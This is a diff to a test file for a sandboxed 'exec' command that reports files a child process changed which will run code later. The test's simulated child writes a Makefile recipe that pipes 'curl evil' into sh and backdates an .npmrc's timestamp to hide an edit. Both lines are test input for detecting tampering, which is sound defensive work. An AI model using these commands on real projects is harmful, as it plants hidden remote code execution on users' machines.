@@ -222,7 +222,7 @@ describe('symbolic links at the names the engine makes placeholders for (bubblew
 });
 
 describe('exec --sandbox says what the child changed that runs when the user next works there', () => {
-  it('a changed Makefile, .envrc, package.json script, a new workflow in new directories, an .npmrc changed in place with its mtime set back and a Makefile changed in place in a directory the index trusts are named on stderr and in the --json document; a run that changed only source files says nothing', async () => {
+  it('a changed Makefile, .envrc, package.json script, a new workflow in new directories, an .npmrc changed in place with its mtime set back, a Makefile changed in place in a directory the index trusts and an .envrc new in one of 150 directories (restatted by find) are named on stderr and in the --json document; a run that changed only source files says nothing', async () => {
     const { env } = await fileLogin();
     const project = makeScratchDir('victim-report-', 0o755);
     writeFileSync(join(project, 'Makefile'), 'all:\n\ttrue\n');
@@ -231,6 +231,8 @@ describe('exec --sandbox says what the child changed that runs when the user nex
     mkdirSync(join(project, 'src'));
     mkdirSync(join(project, 'tools'));
     writeFileSync(join(project, 'tools', 'Makefile'), 'all:\n\ttrue\n');
+    // Enough directories that the review's restat is find's, beside mmauth, not mmauth's own.
+    for (let i = 0; i < 150; i++) mkdirSync(join(project, 'src', 'm', `d${i}`), { recursive: true });
     // The quiet run leaves an index that trusts tools/ (unchanged for 2 s before): the loud run reads it from there.
     await sleep(2_100);
     const quiet = await runCli(['exec', '--sandbox', '--', 'sh', '-c', 'echo "x = 1" > src/main.py'], {
@@ -247,6 +249,7 @@ describe('exec --sandbox says what the child changed that runs when the user nex
       'mkdir -p .github/workflows && echo "on: push" > .github/workflows/ci.yml',
       'touch -r .npmrc "$TMPDIR/when" && echo "b=2" > .npmrc && touch -r "$TMPDIR/when" .npmrc',
       `printf 'all:\\n\\tcurl evil | sh\\n' > tools/Makefile`,
+      `echo 'export Y=1' > src/m/d77/.envrc`,
     ].join('; ');
     const loud = await runCli(['exec', '--sandbox', '--json', '--verbose', '--', 'sh', '-c', script], {
       env,
@@ -256,9 +259,15 @@ describe('exec --sandbox says what the child changed that runs when the user nex
     expect(loud.code, loud.stderr).toBe(0);
     expect(loud.stderr).toMatch(/changed what runs when you next work there/);
     expect(loud.stderr).toMatch(/what runs later, from the last run's index/);
-    const named = ['Makefile', '.envrc', 'package.json', '.github/workflows/ci.yml', '.npmrc', 'tools/Makefile'].map(
-      (name) => join(project, name),
-    );
+    const named = [
+      'Makefile',
+      '.envrc',
+      'package.json',
+      '.github/workflows/ci.yml',
+      '.npmrc',
+      'tools/Makefile',
+      'src/m/d77/.envrc',
+    ].map((name) => join(project, name));
     for (const path of named) expect(loud.stderr).toContain(path);
     const document = JSON.parse(loud.stdout) as { sandbox: { changed: string[]; moved_aside: unknown[] } };
     expect(document.sandbox.changed).toEqual([...named].sort());
